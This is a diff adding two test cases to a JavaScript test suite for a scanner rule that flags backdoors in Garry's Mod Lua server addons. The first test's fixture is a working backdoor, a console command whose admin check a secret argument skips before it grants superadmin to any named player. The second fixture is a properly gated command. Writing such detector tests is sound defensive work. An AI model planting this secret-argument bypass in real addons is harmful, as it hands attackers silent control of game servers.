@@ -110,4 +110,29 @@ describe('steamid_gate', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a console command whose admin check a secret argument skips', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'concommand.Add("props_clean", function(ply, cmd, args)',
+        ' if IsValid(ply) and not ply:IsAdmin() and args[1] ~= "7f3a" then return end',
+        ' RunConsoleCommand("ulx", "adduser", args[2], "superadmin")',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a chat command that leaves when the first word is not its name', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("PlayerSay", "rank", function(ply, text)',
+        ' local args = string.Explode(" ", text)',
+        ' if args[1] ~= "!setrank" then return end',
+        ' if not ply:IsSuperAdmin() then return "" end',
+        ' RunConsoleCommand("ulx", "adduser", args[2], args[3])',
+        ' return ""',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
